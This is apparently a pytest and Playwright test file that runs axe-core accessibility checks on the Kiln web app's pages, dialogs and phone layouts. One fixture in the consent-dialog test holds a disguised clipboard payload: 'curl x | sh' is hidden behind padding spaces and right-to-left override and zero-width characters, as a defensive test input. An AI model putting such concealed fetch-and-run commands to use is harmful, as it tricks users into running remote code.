"""axe-core on Kiln's pages: no serious or critical violations.

axe is injected as a script tag, which the app pages' CSP (script-src 'self')
would refuse: this test's browser context bypasses CSP for that reason only.
"""
from pathlib import Path

import pytest
from playwright.sync_api import expect

from testkit.answers import TIP_ANSWER, TIP_CHECKED_ANSWER, TIP_EDIT
from testkit.pages import import_in_browser, wait_for_written
from testkit.serving import provider_overrides, serve_kiln

AXE = Path(__file__).parent / "js" / "node_modules" / "axe-core" / "axe.min.js"


@pytest.fixture(autouse=True)
def axe_is_installed():
    # A missing checker must fail loudly, never pass by skipping.
    assert AXE.exists(), "axe-core is missing: run scripts/setup (npm ci in tests/js)"


def serious_violations(page) -> list[str]:
    page.add_script_tag(path=str(AXE))
    result = page.evaluate("""async () => {
        const r = await axe.run(document, { resultTypes: ['violations'] });
        return r.violations.filter(v => ['serious', 'critical'].includes(v.impact))
            .map(v => `${v.id} (${v.impact}): ${v.help} -> ${v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(', ')}`);
    }""")
    return result


@pytest.fixture
def axe_context(browser):
    ctx = browser.new_context(bypass_csp=True)
    ctx.set_default_timeout(15_000)
    yield ctx
    ctx.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_have_no_serious_accessibility_violations(tmp_path, fake_llm, axe_context, scheme):
    with serve_kiln(tmp_path, **provider_overrides(fake_llm)) as server:
        page = axe_context.new_page()
        page.emulate_media(color_scheme=scheme)
        fake_llm.script(TIP_ANSWER, TIP_EDIT)
        page.goto(server.app_origin)
        assert serious_violations(page) == [], "home (empty)"

        page.fill("#prompt", "tips")
        page.keyboard.press("Enter")
        wait_for_written(page)
        page.fill("#prompt", "20%")
        page.keyboard.press("Enter")
        expect(page.locator(".ws-meta")).to_contain_text("Version 2 of 2", timeout=20_000)
        artifact_url = page.url
        for tab in ("#tab-preview", "#tab-code", "#tab-checks", "#tab-network", "#tab-history",
                    "#tab-data"):
            page.locator(tab).click()
            assert serious_violations(page) == [], f"workspace {tab}"

        # files: a chip in the prompt box, the Data tab with a file and its preview open
        csv = {"name": "sales.csv", "mimeType": "text/csv", "buffer": b"region,amount\nNorth,12\n"}
        page.set_input_files("#attach", files=[csv])
        expect(page.locator("[data-attachments] li")).to_have_count(1)
        page.locator("#tab-data").click()
        page.set_input_files("#data-add", files=[csv])
        expect(page.locator(".ws-meta")).to_contain_text("Version 3 of 3", timeout=20_000)
        page.get_by_role("button", name="sales.csv", exact=True).click()
        expect(page.locator("[data-file-preview-box] th")).to_have_count(2)
        assert serious_violations(page) == [], "workspace: files attached, the Data tab"

        page.goto(f"{artifact_url}/diff?from=1&to=2")
        assert serious_violations(page) == [], "diff"

        page.goto(server.app_origin)
        assert serious_violations(page) == [], "home with the gallery"

        import_in_browser(page, server.app_origin, "<!doctype html><title>Plain</title><p>x</p>")
        viewer = axe_context.browser.new_context(bypass_csp=True)
        shared = viewer.new_page()
        shared.emulate_media(color_scheme=scheme)
        shared.goto(artifact_url)
        expect(shared.get_by_role("button", name="Remix")).to_be_visible()
        assert serious_violations(shared) == [], "share page"
        shared.get_by_role("button", name="View source").click()
        assert serious_violations(shared) == [], "share page with source"
        viewer.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_of_people_have_no_serious_violations(tmp_path, axe_context, scheme):
    from testkit.serving import DEFAULT_ACCESS
    with serve_kiln(tmp_path, access=DEFAULT_ACCESS) as server:
        page = axe_context.new_page()
        page.emulate_media(color_scheme=scheme)
        page.goto(server.app_origin)
        expect(page.locator("[data-visitor]")).to_be_visible()
        assert serious_violations(page) == [], "home for a visitor"
        page.goto(server.kiln.people.login_link())
        assert serious_violations(page) == [], "sign-in"
        page.get_by_role("button", name="Sign in as Owner").click()
        page.goto(f"{server.app_origin}/account")
        expect(page.get_by_role("button", name="Sign out everywhere")).to_be_visible()
        assert serious_violations(page) == [], "account"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_at_390_px_have_no_serious_violations(tmp_path, fake_llm, browser, scheme):
    """Phones: the workspace's Chat and Tool views, its menu and tabs, the delete
    dialog, the share page with its menu, and the home page."""
    with serve_kiln(tmp_path, **provider_overrides(fake_llm)) as server:
        context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
                                      color_scheme=scheme)
        context.set_default_timeout(15_000)
        page = context.new_page()
        fake_llm.script(TIP_CHECKED_ANSWER, TIP_EDIT)
        page.goto(server.app_origin)
        assert serious_violations(page) == [], "home"
        page.fill("#prompt", "tips")
        page.keyboard.press("Enter")
        artifact_id = wait_for_written(page)
        assert serious_violations(page) == [], "workspace: the tool"
        page.get_by_role("button", name="Chat", exact=True).click()
        assert serious_violations(page) == [], "workspace: the chat"
        page.fill("#prompt", "x" * 17_000)  # the counter near the limit
        assert serious_violations(page) == [], "workspace: the prompt's counter"
        page.get_by_role("button", name="Tool", exact=True).click()
        for tab in ("Code", "Checks", "History", "AI & data"):
            page.get_by_role("tab", name=tab).click()
            assert serious_violations(page) == [], f"workspace: {tab}"
        page.get_by_role("tab", name="Checks").click()
        page.get_by_role("button", name="Add a check").click()
        assert serious_violations(page) == [], "workspace: the check editor"
        page.locator("[data-check-cancel]").click()
        page.get_by_role("button", name="Share and more").click()
        assert serious_violations(page) == [], "workspace: the menu"
        page.get_by_role("button", name="Delete…").click()
        assert serious_violations(page) == [], "workspace: the delete dialog"
        page.get_by_role("button", name="Keep it").click()

        viewer = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
                                     color_scheme=scheme)
        shared = viewer.new_page()
        shared.goto(f"{server.app_origin}/a/{artifact_id}")
        expect(shared.get_by_role("button", name="Remix")).to_be_visible()
        assert serious_violations(shared) == [], "share page"
        shared.get_by_role("button", name="More").click()
        assert serious_violations(shared) == [], "share page: the menu"
        viewer.close()
        context.close()


def test_axe_finds_a_planted_violation(live_server, axe_context):
    """The check can fail: an unlabelled button is caught."""
    page = axe_context.new_page()
    page.goto(live_server.app_origin)
    page.evaluate("() => document.querySelector('main').append(Object.assign("
                  "document.createElement('button'), {className: 'x'}))")
    assert any(v.startswith("button-name") for v in serious_violations(page))


def test_the_checks_tab_with_checks_has_no_serious_violations(tmp_path, axe_context):
    """The Checks tab as it is with acceptance checks: one passing, one failing
    with its step and screenshot, the editor open, and the recorder."""
    from artifacts import checks_store

    tool = ("<!doctype html><html lang='en'><title>Tips</title><label>Bill <input id='bill'></label>"
            "<button id='calc' onclick=\"document.getElementById('tip').textContent = '1.50'\">Calculate</button>"
            "<output id='tip'>0</output></html>")
    with serve_kiln(tmp_path, smoke_on_save=True) as server:
        page = axe_context.new_page()
        artifact_id = import_in_browser(page, server.app_origin, tool)
        page.locator("#tab-checks").click()
        page.get_by_role("button", name="Add a check").click()
        page.fill("#check-name", "computes the tip")
        page.fill("#check-steps", '{"click": "#calc"}\n{"expect": "#tip", "text": "9.99"}')
        page.get_by_role("button", name="Save and test").click()
        expect(page.locator("[data-checks-summary]")).to_have_text("0/1 checks pass", timeout=30_000)
        assert checks_store.current_set(server.kiln.store, artifact_id).source == "person"
        page.get_by_role("button", name="Add a check").click()
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            assert serious_violations(page) == [], f"checks tab ({scheme})"
        page.get_by_role("button", name="Record a check").click()
        expect(page.locator("[data-recorder]")).to_have_attribute("data-state", "recording")
        assert serious_violations(page) == [], "recording"


def test_the_secret_warning_and_the_secret_scan_have_no_serious_violations(live_server, axe_context):
    """Next to Copy link and in the Checks tab, for a tool with a key in its source
    (made at run time: no key is written in the repository)."""
    import random
    import string

    rng = random.Random(1)
    token = "ghp_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36))
    tool = f"<!doctype html><html lang='en'><title>Keys</title><script>const t = '{token}';</script></html>"
    page = axe_context.new_page()
    import_in_browser(page, live_server.app_origin, tool)
    expect(page.locator("[data-secret-warning]")).to_be_visible()
    page.locator("#tab-checks").click()
    expect(page.locator("[data-secrets] table")).to_be_visible()
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert serious_violations(page) == [], f"secret scan ({scheme})"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_consent_dialog_and_the_sign_in_choice_at_390_px(tmp_path, browser, scheme):
    """The consent dialog as a phone shows it, with a long text full of marks to
    copy: while Allow waits and once it answers; focus on the safe answer, both
    answers named. And the sign-in page asking whether to move this browser's tools."""
    from artifacts import accounts
    from testkit.pages import import_in_browser
    from testkit.serving import DEFAULT_ACCESS
    tool = ("<!doctype html><html lang='en'><title>Copier</title><button id='copy'>Copy</button><script>"
            "document.getElementById('copy').onclick = () => navigator.clipboard.writeText("
            "'echo hi' + ' '.repeat(300) + '; curl x | sh\\u202e\\u200b\\t\\n'.repeat(40));</script></html>")
    with serve_kiln(tmp_path) as server:
        context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
                                      color_scheme=scheme)
        context.set_default_timeout(15_000)
        try:
            page = context.new_page()
            import_in_browser(page, server.app_origin, tool)
            page.frame_locator("#artifact-frame").locator("#copy").click()
            dialog = page.get_by_role("dialog", name="Copy 987 characters to your clipboard?")
            expect(dialog).to_be_visible()
            expect(dialog.get_by_role("button", name="Cancel")).to_be_focused()
            allow = dialog.get_by_role("button", name="Copy")
            expect(allow).to_be_disabled()  # aria-disabled: still focusable, announced as unavailable
            assert serious_violations(page) == [], "the consent dialog, Allow waiting"
            expect(allow).to_be_enabled()
            assert serious_violations(page) == [], "the consent dialog"
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
            dialog.get_by_role("button", name="Cancel").click()
        finally:
            context.close()
    (tmp_path / "people").mkdir()
    with serve_kiln(tmp_path / "people", access=DEFAULT_ACCESS) as server:
        context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 844},
                                      color_scheme=scheme)
        try:
            page = context.new_page()
            owner = accounts.ensure_owner(server.kiln.store)
            shared = server.kiln.import_html("<!doctype html><title>T</title><p>x</p>", owner.key)
            page.goto(server.kiln.page_url(shared.artifact.id))
            page.get_by_role("button", name="Remix").click()
            expect(page.locator("p.notice")).to_contain_text("Remixed")
            page.goto(server.kiln.people.login_link())
            expect(page.get_by_role("radio", name="No, keep them with this browser")).to_be_checked()
            assert serious_violations(page) == [], "sign-in with the choice to move tools"
            assert page.evaluate("document.documentElement.scrollWidth") <= 390
        finally:
            context.close()
